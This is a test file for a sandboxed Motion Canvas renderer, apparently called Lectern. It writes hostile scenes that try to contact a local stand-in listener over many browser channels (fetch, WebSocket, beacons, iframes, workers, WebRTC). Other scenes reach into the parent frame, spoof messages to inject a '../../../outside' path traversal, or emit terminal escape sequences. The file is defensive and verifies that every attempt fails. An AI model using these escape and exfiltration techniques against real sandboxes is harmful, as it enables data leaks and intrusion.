/** Scenes that reach for what is not theirs, run as people run them: nothing is heard, and each run ends with a message. */
import {createSocket} from 'node:dgram';
import {mkdir, readdir, writeFile} from 'node:fs/promises';
import {type Server, createServer} from 'node:net';
import path from 'node:path';
import {afterAll, beforeAll, beforeEach, describe, expect, test} from 'vitest';
import {writeLecture} from '../end-to-end/lecture-files.ts';
import {folderForTest} from '../temporary-folder.ts';
import {runLectern} from '../end-to-end/lectern.ts';

/** What somebody outside has heard of a scene. */
const heard: string[] = [];
let tcp: Server;
const udp = createSocket('udp4');
let outside = '';
let udpPort = 0;
beforeAll(async () => {
  tcp = createServer(socket => {
    heard.push('a connection');
    socket.destroy();
  });
  await new Promise<void>(resolve => tcp.listen(0, '127.0.0.1', resolve));
  udp.on('message', () => heard.push('a datagram'));
  await new Promise<void>(resolve => udp.bind(0, '127.0.0.1', resolve));
  const address = tcp.address();
  outside = `127.0.0.1:${typeof address === 'object' ? (address?.port ?? 0) : 0}`;
  udpPort = udp.address().port;
});
beforeEach(() => void heard.splice(0));
afterAll(() => {
  tcp.close();
  udp.close();
});

/** A scene of plain Motion Canvas that runs some code first. */
function sceneWith(code: string): string {
  return `import {makeScene2D} from '@motion-canvas/2d';
import {waitFor} from '@motion-canvas/core';
${code}
export default makeScene2D(function* () {
  yield* waitFor(0.2);
});
`;
}

/** Attempts by name, each an expression that gives a promise of what it got. */
function attempts(expressions: Readonly<Record<string, string>>): string {
  const entries = Object.entries(expressions).map(
    ([name, expression]) => `  ['${name}', async () => ${expression}],`,
  );
  return `
const found: string[] = [];
for (const [name, attempt] of [
${entries.join('\n')}
] as [string, () => Promise<unknown>][]) {
  const late = new Promise(resolve => setTimeout(resolve, 1500, undefined));
  const got = await Promise.race([late, attempt().catch(() => undefined)]).catch(() => undefined);
  if (got !== undefined && got !== null) found.push(name + ' got ' + String(got).slice(0, 80));
}
if (found.length > 0) throw new Error(found.join('; '));
`;
}

const inWorker = (code: string): string =>
  `new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])));
    worker.onmessage = ({data}) => resolve(data ?? undefined);
    worker.onerror = reject;
  })`;

async function render(lecture: string, ...options: string[]) {
  return runLectern(
    ['render', lecture, '--trust', '-o', 'out.mp4', '--quality', 'draft', ...options],
    {cwd: lecture},
  );
}

describe('a scene hears and is heard by nobody', () => {
  test('over any way that a page has', async () => {
    const code = attempts({
      fetch: `(await fetch('http://${outside}/', {mode: 'no-cors'})).type`,
      secure: `(await fetch('https://${outside}/', {mode: 'no-cors'})).type`,
      name: `(await fetch('http://localhost:${outside.split(':')[1] ?? ''}/', {mode: 'no-cors'})).type`,
      request: `new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve(request.status);
        request.onerror = reject;
        request.open('GET', 'http://${outside}/');
        request.send();
      })`,
      socket: `new Promise((resolve, reject) => {
        const socket = new WebSocket('ws://${outside}/');
        socket.onopen = () => resolve('open');
        socket.onerror = reject;
      })`,
      events: `new Promise((resolve, reject) => {
        const events = new EventSource('http://${outside}/');
        events.onopen = () => resolve('open');
        events.onerror = reject;
      })`,
      image: `new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = () => resolve('loaded');
        image.onerror = reject;
        image.src = 'http://${outside}/x.png';
      })`,
      beacon: `void navigator.sendBeacon('http://${outside}/', 'x')`,
      hint: `['preconnect', 'prefetch', 'preload', 'dns-prefetch', 'stylesheet'].forEach(rel => {
        document.head.append(Object.assign(document.createElement('link'), {rel, as: 'script', href: 'http://${outside}/'}));
      })`,
      script: `void document.head.append(Object.assign(document.createElement('script'), {src: 'http://${outside}/'}))`,
      frame: `void document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://${outside}/'}))`,
      'frame within': `(() => {
        const frame = document.createElement('iframe');
        document.body.append(frame);
        return frame.contentWindow!.fetch('http://${outside}/', {mode: 'no-cors'}).then(({type}) => type);
      })()`,
      form: `(() => {
        const form = Object.assign(document.createElement('form'), {action: 'http://${outside}/', method: 'post'});
        document.body.append(form);
        form.submit();
      })()`,
      window: `window.open('http://${outside}/')`,
      'page on top': `void (top!.location.href = 'http://${outside}/')`,
      worker: inWorker(
        `fetch('http://${outside}/', {mode: 'no-cors'}).then(() => postMessage('got'), () => postMessage(null))`,
      ),
      'script of a worker': inWorker(
        `try { importScripts('http://${outside}/x.js'); postMessage('got'); } catch { postMessage(null); }`,
      ),
      'service worker': `(await navigator.serviceWorker.register('/page.js')).scope`,
      peer: `(async () => {
        const peer = new RTCPeerConnection({iceServers: [
          {urls: 'stun:127.0.0.1:${udpPort}'},
          {urls: 'turn:${outside}?transport=tcp', username: 'a', credential: 'b'},
        ]});
        peer.createDataChannel('x');
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise(resolve => setTimeout(resolve, 1000));
      })()`,
    });
    const lecture = await writeLecture({'01-hostile': sceneWith(code)});
    const {code: exitCode, stderr} = await render(lecture);
    expect(stderr).not.toMatch(/got/);
    expect(exitCode).toBe(0);
    expect(heard).toEqual([]);
  });

  test('by leaving its page', async () => {
    const lecture = await writeLecture({
      '01-hostile': sceneWith(`location.href = 'http://${outside}/';`),
    });
    const {code, stderr} = await render(lecture);
    expect(stderr).toContain('A scene has left the page of its lecture');
    expect(code).toBe(1);
    expect(heard).toEqual([]);
  });
});

describe('a scene reaches nothing', () => {
  test('of the page that Node speaks to', async () => {
    const code = attempts({
      parent: `Reflect.get(parent, 'lecternHost')`,
      top: `Reflect.get(top!, 'lecternHost')`,
      frames: `parent.frames[0] === self ? undefined : parent.frames[0]`,
      document: `parent.document`,
      global: `Reflect.get(globalThis, 'lecternHost')`,
      opener: `window.opener ?? undefined`,
    });
    const lecture = await writeLecture({'01-hostile': sceneWith(code)});
    const {code: exitCode, stderr} = await render(lecture);
    expect(stderr).not.toMatch(/got/);
    expect(exitCode).toBe(0);
  });

  test('outside of its folder by the names that it gives to sections', async () => {
    const lecture = await writeLecture({
      '01-hostile': sceneWith(`
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (message: any, ...rest: any[]) {
  const text = JSON.stringify({kind: 'ready', lecture: {title: 'x', sections: ['../../../outside']}});
  Reflect.apply(post, this, [message?.kind === 'loaded' ? {...message, text} : message, ...rest]);
};`),
    });
    const around = path.dirname(lecture);
    const before = await readdir(around);
    const {code, stderr} = await render(lecture);
    expect(stderr).toContain('no file of that name');
    expect(code).toBe(1);
    expect(await readdir(around)).toEqual(before);
  });

  test('by answers that are none', async () => {
    const lecture = await writeLecture({
      '01-hostile': sceneWith(`
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (message: any, ...rest: any[]) {
  const text = JSON.stringify({kind: 'done', value: {frames: -1, durationSeconds: 1e99, beats: [], problems: []}});
  Reflect.apply(post, this, [message?.kind === 'answer' ? {...message, text} : message, ...rest]);
};`),
    });
    const {code, stderr} = await render(lecture);
    expect(stderr).toContain('gives an answer that it cannot have meant');
    expect(code).toBe(1);
    expect(await readdir(lecture)).not.toContain('out.mp4');
  });
});

describe('a scene is told of', () => {
  test.each([
    [
      'where it throws what is no error',
      'throw {toString() { throw 1; }, get message() { throw 2; }};',
    ],
    [
      'where it throws what answers nothing',
      'throw new Proxy({}, {get() { throw 1; }, getPrototypeOf() { throw 2; }});',
    ],
  ])('%s', async (_name, code) => {
    const lecture = await writeLecture({'01-hostile': sceneWith(code)});
    const {code: exitCode, stderr} = await render(lecture);
    expect(stderr).toContain('threw something that is no error');
    expect(exitCode).toBe(1);
  });

  test('in a message of a screenful, without what steers a terminal', async () => {
    const lecture = await writeLecture({
      '01-hostile': sceneWith("throw new Error('\\u001b[2J\\u0007' + 'x'.repeat(1e7));"),
    });
    const {stderr} = await render(lecture);
    expect(stderr).not.toMatch(/[\u001b\u0007]/);
    expect(stderr.length).toBeLessThan(6000);
    expect(stderr).toContain('01-hostile.tsx');
  });

  test('where dialogs are to hold it up', async () => {
    const lecture = await writeLecture({
      '01-hostile': sceneWith("alert('a'); confirm('b'); prompt('c'); print();"),
    });
    expect(await render(lecture)).toMatchObject({code: 0});
  });
});

test('stills go only where Node put them', async () => {
  const folder = folderForTest();
  const lecture = await writeLecture({'01-hostile': sceneWith('')});
  await mkdir(path.join(folder, 'stills'));
  await writeFile(path.join(folder, 'kept.txt'), 'kept');
  const {code} = await runLectern(
    ['render', lecture, '--format', 'png', '-o', path.join(folder, 'stills')],
    {cwd: lecture},
  );
  expect(code).toBe(0);
  expect((await readdir(folder)).sort()).toEqual(['kept.txt', 'stills']);
});
